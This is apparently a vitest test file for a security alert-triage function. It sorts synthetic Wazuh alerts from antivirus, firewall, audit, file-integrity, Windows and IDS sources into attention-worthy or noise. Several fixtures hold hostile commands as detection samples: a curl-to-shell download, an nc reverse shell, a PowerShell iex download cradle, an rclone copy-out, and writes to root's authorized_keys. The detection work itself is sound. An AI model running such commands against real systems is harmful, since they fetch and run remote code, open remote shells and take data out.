import { describe, expect, it } from 'vitest'
import { check } from '../../test/support/assessment-check.ts'
import { type AlertParts, wazuhAlert, windowsEvent } from '../../test/support/wazuh-alert.ts'
import { assessCase } from './assess-case.ts'

const defender = (
  eventID: string,
  level: number,
  fields: { readonly [name: string]: string },
): AlertParts => ({
  rule: ['62100', level, 'Windows Defender: event', ['windows', 'windows_defender']],
  data: windowsEvent(eventID, 'Microsoft-Windows-Windows Defender/Operational', fields),
})
const security = (eventID: string, fields: { readonly [name: string]: string }): AlertParts => ({
  rule: ['60103', 3, 'Windows audit success event.', ['windows', 'windows_security']],
  data: windowsEvent(eventID, 'Security', fields),
})
const virusTotal = (positives: string, level = 12): AlertParts => ({
  rule: ['87105', level, 'VirusTotal: Alert', ['virustotal']],
  data: { virustotal: { positives, total: '70', source: { file: '/srv/a.bin' } } },
})
const firewall = (data: object, level = 3, description = 'Fortigate: event'): AlertParts => ({
  rule: ['81600', level, description, ['fortigate', 'syslog']],
  data,
})
const file = (path: string, event: string, more: object = {}): AlertParts => ({
  rule: ['550', 7, 'Integrity checksum changed.', ['ossec', 'syscheck', 'syscheck_file']],
  syscheck: { path, event, mode: 'whodata', ...more },
})
const packages = (description: string, name: string): AlertParts => ({
  rule: ['2900', 7, description, ['syslog', 'dpkg', 'config_changed']],
  data: { package: name },
})

describe('antivirus programs', () => {
  check('malware', 'person', defender('1116', 12, { 'threat Name': 'Trojan:Win32/Qakbot' }))
  check('malware that stays', 'person', defender('1119', 12, { 'threat Name': 'Ransom:Win32/Basta' }))
  check('an unwanted bundle', 'noise', defender('1116', 12, { 'threat Name': 'PUABundler:Win32/Toolbar' }))
  check('protection is off', 'person', defender('5001', 5, {}))
  check('no engine', 'noise', virusTotal('0', 3))
  check('many engines', 'person', virusTotal('38'))
  check('the limit is reached', 'noise', {
    rule: ['87101', 3, 'VirusTotal: Error: Public API request rate limit reached', ['virustotal']],
    data: { virustotal: { error: '204' } },
  })
  check('ClamAV finds malware', 'person', {
    rule: ['52502', 8, 'ClamAV: Virus detected', ['clamd', 'virus']],
    data: { extra_data: 'Unix.Malware.Agent' },
  })
  it('is not sure of one engine in seventy', () => {
    const [assessment] = assessCase([wazuhAlert(virusTotal('1'))])
    expect(assessment?.probability).toBeGreaterThan(0.4)
    expect(assessment?.probability).toBeLessThan(0.6)
  })
})

describe('firewalls', () => {
  check('a blocked packet', 'noise', firewall({ action: 'deny', srcip: '203.0.113.9' }))
  check('an allowed connection', 'noise', firewall({ action: 'accept', srcip: '192.0.2.9' }))
  check(
    'an exploit that passed',
    'person',
    firewall({ attack: 'Log4j', severity: 'critical', action: 'detected' }, 11),
  )
  check(
    'a scanner that was stopped',
    'noise',
    firewall({ attack: 'Scanner', severity: 'low', action: 'dropped' }),
  )
  check('an administrator is added', 'person', firewall({ cfgpath: 'system.admin', action: 'Add' }, 4))
  const many = 'Multiple firewall blocks from the same source.'
  check('the internet knocks', 'noise', firewall({ action: 'block', srcip: '203.0.113.9' }, 10, many))
  check('a host inside knocks', 'person', firewall({ action: 'block', srcip: '10.1.2.3' }, 10, many))
})

describe('containers, queries and audited commands', () => {
  const docker = (Action: string): AlertParts => ({
    rule: ['87900', 3, `Docker: ${Action}`, ['docker']],
    data: { docker: { Action, Type: 'container' } },
  })
  check('a container starts', 'noise', docker('start'))
  check('a download in a container', 'person', docker('exec_start: sh -c curl http://203.0.113.9/a | sh'))
  check('a query is answered', 'noise', {
    rule: ['24010', 3, 'osquery: result', ['osquery']],
    data: { osquery: { name: 'usb_devices', columns: { model: 'Keyboard' } } },
  })
  const audited = (...words: string[]): AlertParts => ({
    rule: ['80792', 3, `Audit: Command: ${words[0]}.`, ['audit', 'audit_command']],
    data: {
      audit: { exe: words[0], execve: Object.fromEntries(words.map((word, at) => [`a${at}`, word])) },
    },
  })
  check('ls', 'noise', audited('ls', '-l'))
  check('a shell for somebody else', 'person', audited('nc', '-e', '/bin/sh', '203.0.113.9', '443'))
  check('nc with a word that only begins so', 'noise', audited('ncdu', '-e', '/srv'))
  check('the passwords are read', 'person', {
    rule: ['80784', 3, 'Audit: Read: /etc/shadow.', ['audit', 'audit_watch_read']],
    data: { audit: { exe: '/usr/bin/cat', file: { name: '/etc/shadow' } } },
  })
})

describe('monitored files', () => {
  check('a note of ransomware', 'person', file('/srv/share/HOW_TO_DECRYPT_FILES.txt', 'added'))
  check('a readme', 'noise', file('/srv/app/README.txt', 'added'))
  check('a document with another ending', 'person', file('/srv/share/plan.docx.crypted9', 'added'))
  check('a backup of a document', 'noise', file('/srv/share/plan.docx.bak', 'added'))
  check(
    'a log that somebody deletes',
    'person',
    file('/var/log/secure', 'deleted', { audit: { process: { name: '/usr/bin/rm' } } }),
  )
  check(
    'a log that is rotated',
    'noise',
    file('/var/log/secure.3', 'deleted', { audit: { process: { name: '/usr/sbin/logrotate' } } }),
  )
  check(
    'an update of a guarded file',
    'noise',
    file('/etc/pam.d/common-auth', 'modified', { audit: { process: { name: '/usr/bin/dpkg' } } }),
  )
  check(
    'a web server that writes a script',
    'person',
    file('/var/www/html/up/a.php', 'added', { audit: { process: { name: '/usr/sbin/apache2' } } }),
  )
  const registry = (path: string): AlertParts => ({
    rule: ['752', 5, 'Registry Value Entry Added to the System', ['ossec', 'syscheck', 'syscheck_registry']],
    syscheck: { path, event: 'added', value_name: 'x' },
  })
  check(
    'a value that starts a program',
    'person',
    registry('HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'),
  )
  check(
    'another value',
    'noise',
    registry('HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\W32Time\\Config'),
  )
})

describe('Windows events by themselves', () => {
  check(
    'a program starts',
    'noise',
    security('4688', { newProcessName: 'C:\\Windows\\System32\\svchost.exe' }),
  )
  check(
    'files are copied to a cloud',
    'person',
    security('4688', { commandLine: 'rclone.exe copy C:\\data remote:x' }),
  )
  check(
    'a task of Windows',
    'noise',
    security('4698', { taskName: '\\Microsoft\\Windows\\Defrag\\X', taskContent: '<Exec>defrag.exe</Exec>' }),
  )
  check(
    'a task that downloads',
    'person',
    security('4698', { taskName: '\\Upd', taskContent: 'powershell iex(irm http://203.0.113.9/a)' }),
  )
  check('a device', 'noise', security('6416', { deviceDescription: 'USB disk' }))
})

describe('packages, schedules and accounts of services', () => {
  check('a library', 'noise', packages('New dpkg (Debian Package) installed.', 'libxml2'))
  check('the audit daemon goes', 'person', packages('Dpkg (Debian Package) removed.', 'auditd'))
  const cron = (srcuser: string): AlertParts => ({
    rule: ['2832', 5, 'Crontab entry changed.', ['syslog', 'cron', 'config_changed']],
    data: { srcuser },
  })
  check('a person changes a schedule', 'noise', cron('ann'))
  check('a web server changes a schedule', 'person', cron('www-data'))
  const made = (uid: string, shell: string): AlertParts => ({
    rule: ['5902', 8, 'New user added to the system.', ['syslog', 'adduser']],
    data: { dstuser: 'x', uid, shell },
  })
  check('the account of a package', 'noise', made('997', '/usr/sbin/nologin'))
  check('another root', 'person', made('0', '/bin/bash'))
  check('a web server asks for root', 'person', {
    rule: ['5405', 5, 'Unauthorized user attempted to use sudo.', ['syslog', 'sudo']],
    data: { srcuser: 'www-data', dstuser: 'root', command: '/bin/bash' },
  })
  check('keys are written with an everyday tool', 'person', {
    rule: ['5402', 3, 'Successful sudo to ROOT executed.', ['syslog', 'sudo']],
    data: { srcuser: 'ann', dstuser: 'root', command: '/usr/bin/tee -a /root/.ssh/authorized_keys' },
  })
})

describe('sensors that say all in one line', () => {
  const snort = (log: string): AlertParts => ({
    rule: ['20101', 6, 'IDS event.', ['ids']],
    data: { srcip: '192.0.2.9', id: '1:1:1' },
    log,
  })
  check('malware calls home', 'person', snort('[**] [1:1:1] ET TROJAN Checkin [**] [Priority: 1] {TCP}'))
  check('a note', 'noise', snort('[**] [1:1:1] ET POLICY Something [**] [Priority: 3] {TCP}'))
  const zeek = (note: string): AlertParts => ({
    rule: ['66002', 5, 'Zeek: Notice', ['zeek']],
    data: { note, src: '203.0.113.9' },
  })
  check('Zeek sees guessing', 'person', zeek('SSH::Password_Guessing'))
  check('Zeek sees an old certificate', 'noise', zeek('SSL::Certificate_Expired'))
})

describe('a logon after guessing', () => {
  const at = 1_770_000_000_000
  const guessing = (srcip: string, atMs: number): AlertParts => ({
    id: `1.${atMs}`,
    atMs,
    rule: [
      '5763',
      10,
      'sshd: brute force trying to get access to the system.',
      ['sshd', 'authentication_failures'],
    ],
    data: { srcip, dstuser: 'root' },
  })
  const success: AlertParts = {
    id: '2.1',
    atMs: at,
    rule: ['5715', 3, 'sshd: authentication success.', ['sshd', 'authentication_success']],
    data: { srcip: '203.0.113.9', dstuser: 'root' },
  }
  const told = (around: AlertParts[]) =>
    assessCase([wazuhAlert(success)], around.map(wazuhAlert))[0]?.signals.some(
      ({ id }) => id === 'success-after-failures',
    )
  it('is told where the same address guessed within the hour before', () => {
    expect(told([guessing('203.0.113.9', at - 600_000)])).toBe(true)
  })
  it('is an ordinary one after guessing from elsewhere, later or long ago', () => {
    expect(told([guessing('203.0.113.77', at - 600_000)])).toBe(false)
    expect(told([guessing('203.0.113.9', at + 600_000)])).toBe(false)
    expect(told([guessing('203.0.113.9', at - 2 * 3_600_000)])).toBe(false)
  })
})
